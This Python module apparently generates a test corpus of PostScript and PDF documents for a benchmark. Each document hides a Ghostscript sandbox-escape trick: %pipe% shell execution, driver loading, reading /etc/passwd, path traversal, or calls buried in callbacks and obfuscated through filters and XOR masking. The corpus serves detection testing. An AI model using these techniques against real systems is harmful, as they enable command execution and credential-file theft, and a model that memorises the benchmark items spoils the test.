"""Further tricks of documents that abuse Ghostscript, beside the demo's; what they do is of no consequence.

Each is set among ordinary text and drawings of its own. It works where files and commands are within reach of
a document, and what it does is named, so that it can be looked for.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

import ghostscript_postscript
import ghostscript_warnings
from bench_document import Document
from ghostscript_demo import part
from ghostscript_text import heading, page_of_postscript

SHELL = "runs /bin/sh"
USERS = "reads /etc/passwd"
# a deed drawn by lot, for CALL in the code
DRAWN = ""
DEEDS = (
    (SHELL, "(%pipe%true) (r) file closefile"),
    (SHELL, "(%pipe%cat >/dev/null) (w) file closefile"),
    (USERS, "(/etc/passwd) (r) file dup 99 string readline pop pop closefile"),
    ("writes OUT", "(OUT) (w) file dup (x) writestring closefile"),
)


@dataclass(frozen=True)
class Trick:
    """A trick.

    Attributes:
        name: of the document that does it.
        act: the effect that it is for, as ``ghostscript.effects`` tells it; DRAWN: that of a deed.
        code: PostScript, or what makes it of the deed; ``OUT`` in it is a file of the trick's own, ``CALL`` the
            deed.
        before: ordinary pages before it.
        after: the page that it stands on is shown, as an ordinary document's.
        ending: of the file's name.
    """

    name: str
    act: str
    code: str | Callable[[random.Random, str], str]
    before: int = 1
    after: bool = True
    ending: str = "ps"


def _characters(text: str) -> str:
    """An expression of a string that is put together character by character."""
    steps = " ".join(f"dup {i} {ord(letter)} put" for i, letter in enumerate(text))
    return f"{len(text)} string {steps}"


def _layers(chance: random.Random, deed: str) -> str:
    """A call under several layers of filters, in an order drawn by lot."""
    encode = part("encode")
    coders = [
        ("/FlateDecode", encode.flate), ("/LZWDecode", encode.lzw), ("/RunLengthDecode", encode.run_length),
        ("/ASCIIHexDecode", encode.asciihex), ("/ASCII85Decode", encode.ascii85),
    ]  # fmt: skip
    chance.shuffle(coders)
    data, filters = f"{deed}\n".encode(), ""
    for name, code in coders:
        data, filters = code(data), f" {name} filter{filters}"
    return f"currentfile /ASCIIHexDecode filter{filters} cvx exec\n{encode.asciihex(data).decode()}\n"


def _numbers(chance: random.Random, deed: str) -> str:
    """A call whose characters are numbers of an array, masked."""
    mask = chance.randrange(128, 200)
    values = " ".join(str(ord(letter) ^ mask) for letter in deed)
    return (
        f"[{values}] dup length string /s exch def "
        f"0 exch {{ {mask} xor 1 index exch s 3 1 roll put 1 add }} forall pop s cvx exec"
    )


def _string(chance: random.Random, deed: str) -> str:
    """A call that is a string."""
    escaped = deed.replace("(", "\\(").replace(")", "\\)")
    return f"({escaped}) cvx exec"


def _within_pdf(kind: str) -> Callable[[random.Random, str], str]:
    """A call after a PDF document, which the document holds and draws."""

    def made(chance: random.Random, deed: str) -> str:
        inner = ghostscript_warnings.MAKERS[kind](chance)
        data = part("encode").asciihex(inner).decode()
        return (
            "currentfile /ASCIIHexDecode filter << >> /ReusableStreamDecode filter\n"
            f"{data}\nsystemdict /runpdf get exec\n{deed}"
        )

    return made


def _after_warnings(kind: str) -> Callable[[random.Random, str], str]:
    """A call after what is harmless and makes Ghostscript warn."""

    def made(chance: random.Random, deed: str) -> str:
        inner = ghostscript_postscript.MAKERS[kind](chance).decode("latin-1")
        return f"{inner.replace('%%EOF', '')}\n{deed}"

    return made


_TYPE3 = """8 dict dup begin /FontType 3 def /FontMatrix [.01 0 0 .01 0 0] def /FontBBox [0 0 99 99] def
/Encoding 256 array def 0 1 255 { Encoding exch /.notdef put } for
/BuildGlyph { pop pop 70 0 setcharwidth CALL 10 10 50 50 rectfill } def
/BuildChar { 1 index /Encoding get exch get 1 index /BuildGlyph get exec } bind def
end /Shapes exch definefont 20 scalefont setfont 72 200 moveto"""

TRICKS = (
    # ways to a command
    Trick("run-of-pipe", SHELL, "(%pipe%echo 0 0 9 9 rectfill) run"),
    Trick("pipe-by-bar", SHELL, "<< /OutputFile (|cat >/dev/null) >> setpagedevice 0 0 9 9 rectfill"),
    Trick("pipe-of-raster", SHELL, "<< /OutputDevice /pbmraw /OutputFile (%pipe%cat >/dev/null) >> setpagedevice"),
    Trick("pipe-token", SHELL, "(%pipe%echo 7) (r) file dup token pop 0 0 3 2 roll 9 rectfill closefile"),
    Trick("ijs-server", "runs ", "<< /OutputDevice /ijs /IjsServer (true) /OutputFile (/dev/null) /DeviceManufacturer (a) "
          "/DeviceModel (b) /IjsUseOutputFD false >> setpagedevice 0 0 9 9 rectfill showpage", after=False),
    Trick("driver-loaded", "reads OUT", "(OUT) (w) file dup (text) writestring closefile { << /OutputDevice /opvp "
          "/Driver (./OUT) /OutputFile (/dev/null) >> setpagedevice } stopped clear $error /newerror false put",
          after=False),
    # files
    Trick("users-by-device-name", USERS, "(%os%/etc/passwd) (r) file 99 string readline pop 72 72 moveto show"),
    Trick("users-by-way-round", USERS, "(/usr/share/fonts/../../../etc/passwd) (r) file token pop pop"),
    Trick("users-by-library", USERS, "(/etc/passwd) findlibfile { closefile } if pop"),
    Trick("users-by-resource", USERS, "<< /FontResourceDir (/etc/) /GenericResourceDir (/etc/) >> setsystemparams "
          "{ /passwd /Font findresource } stopped clear"),
    Trick("users-run", USERS, "{ (/etc/passwd) run } stopped clear $error /newerror false put"),
    Trick("users-as-font", USERS, "{ (/etc/passwd) (r) file .loadfont } stopped clear $error /newerror false put"),
    Trick("users-filtered", USERS, "(/etc/passwd) (r) file 0 (:) /SubFileDecode filter 99 string readstring pop "
          "72 72 moveto show"),
    Trick("temporary-file", "writes tmp/pieces", "(pieces) (w) .tempfile dup (x) writestring closefile deletefile"),
    Trick("written-by-device", "writes OUT", "<< /OutputDevice /pdfwrite /OutputFile (OUT) >> setpagedevice "
          "9 9 9 9 rectfill"),
    Trick("renamed-pieces", "renames OUT.1", "(OUT.1) (w) file dup (x) writestring closefile (OUT.1) (OUT) renamefile"),
    Trick("removed", "removes OUT", "(OUT) (w) file closefile (OUT) deletefile"),
    Trick("listed", "lists /etc/pam.d", "(/etc/pam.d/*) { pop } 200 string filenameforall"),
    Trick("both-ways", "writes OUT", "(OUT) (w+) file dup (text) writestring dup 0 setfileposition closefile"),
    # where the call stands
    Trick("in-install", DRAWN, "<< /Install { CALL } >> setpagedevice"),
    Trick("in-begin-page", DRAWN, "<< /BeginPage { pop CALL } >> setpagedevice"),
    Trick("in-spot-function", DRAWN, "/n 0 def 40 30 { 2 copy add n 0 eq { CALL } if "
          "/n 1 store 2 div exch pop exch pop } setscreen"),
    Trick("in-transfer", DRAWN, "/n 0 def { n 0 eq { CALL } if /n 1 store } settransfer"),
    Trick("in-black-generation", DRAWN, "/n 0 def { n 0 eq { CALL } if /n 1 store } "
          "setblackgeneration .1 .2 .3 setrgbcolor 9 9 9 9 rectfill"),
    Trick("in-colour-space", DRAWN, "/n 0 def [/CIEBasedA << /WhitePoint [.95 1 1.09] /DecodeA { n 0 eq { CALL "
          " } if /n 1 store } bind >>] setcolorspace .5 setcolor 9 9 9 9 rectfill"),
    Trick("in-tint", DRAWN, "/n 0 def [/Separation (Spot) /DeviceRGB { n 0 eq { CALL } if "
          "/n 1 store dup dup }] setcolorspace .5 setcolor 9 9 9 9 rectfill"),
    Trick("in-build-glyph", DRAWN, f"{_TYPE3} (ab) show"),
    Trick("in-kerning", DRAWN, "72 90 moveto { pop pop CALL } (ab) kshow"),
    Trick("in-path", DRAWN, "newpath 9 9 moveto { CALL pop pop } { } { } { } pathforall"),
    Trick("in-error-handler", DRAWN, "errordict /undefined { pop CALL } put no-such-operator"),
    Trick("in-handle-error", DRAWN, "errordict /handleerror { CALL } put no-such-operator",
          after=False),
    Trick("in-resources", DRAWN, "/n 0 def (*) { pop n 0 eq { CALL } if /n 1 store } "
          "60 string /Filter resourceforall"),
    Trick("in-filter-source", SHELL, "{ (%pipe%echo 4142) (r) file dup 9 string readline pop exch closefile } "
          "/ASCIIHexDecode filter 2 string readstring pop 72 72 moveto show"),
    Trick("in-sort-of-image", SHELL, "gsave 99 99 translate 50 50 scale 4 4 8 [4 0 0 4 0 0] "
          "{ (%pipe%printf 0123456789abcdef) (r) file dup 16 string readstring pop exch closefile } false 1 "
          "colorimage grestore"),
    Trick("in-glyph-of-pattern", DRAWN, f"<< /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 30 30] /XStep 30 "
          f"/YStep 30 /PaintProc {{ pop {_TYPE3} (a) show }} >> matrix makepattern setpattern 9 9 99 99 rectfill"),
    # how it is hidden
    Trick("in-string", DRAWN, _string),
    Trick("by-characters", SHELL, f"{_characters('%pipe%true')} (r) systemdict {_characters('file')} cvn get exec closefile"),
    Trick("by-search", SHELL, "(%pipe%true) (r) systemdict { exch dup 99 string cvs (file) eq { pop exit } { pop pop } "
          "ifelse } forall exec closefile"),
    Trick("by-numbers", DRAWN, _numbers),
    Trick("in-layers", DRAWN, _layers),
    Trick("after-pages", DRAWN, "CALL", before=30),
    Trick("in-loop", DRAWN, "0 1 99 { 77 eq { CALL } if } for"),
    Trick("in-dictionary", DRAWN, "<< (x) { CALL } >> { exec pop } forall"),
    Trick("named-pdf", DRAWN, "CALL", ending="pdf"),
    *(Trick(f"after-pdf-{kind}", DRAWN, _within_pdf(kind)) for kind in ("xref-missing", "operators-bad", "image-short",
                                                                       "font-broken")),
    *(Trick(f"after-ps-{kind}", DRAWN, _after_warnings(kind)) for kind in ("caught", "font-missing", "driver-talk", "asking",
                                                                        "comments-wrong", "image-short")),
)  # fmt: skip


def documents() -> list[Document]:
    """A document of each trick; always the same."""
    return [Document(_name(each), each.name, _content(each), harmful=True) for each in TRICKS]


def acts() -> dict[str, str]:
    """The effect of each document, by its name."""
    return {_name(each): _filled(each.act or _deed(each)[0], each) for each in TRICKS}


def _name(trick: Trick) -> str:
    return f"{trick.name}.{trick.ending}"


def _deed(trick: Trick) -> tuple[str, str]:
    """The effect and the code of a deed for a trick."""
    return DEEDS[TRICKS.index(trick) % len(DEEDS)]


def _filled(text: str, trick: Trick) -> str:
    return text.replace("CALL", _deed(trick)[1]).replace("OUT", f"{trick.name}.out")


def _content(trick: Trick) -> bytes:
    chance = random.Random(f"trick {trick.name}")
    deed = _filled("CALL", trick)
    code = trick.code if isinstance(trick.code, str) else trick.code(chance, deed)
    pages = [page_of_postscript(chance) for _ in range(trick.before)]
    last = page_of_postscript(chance, shown=False)
    end = "showpage\n" if trick.after else ""
    made = f"{heading(chance)}{''.join(pages)}{last}{_filled(code, trick)}\n{end}%%EOF\n"
    return made.encode("latin-1")
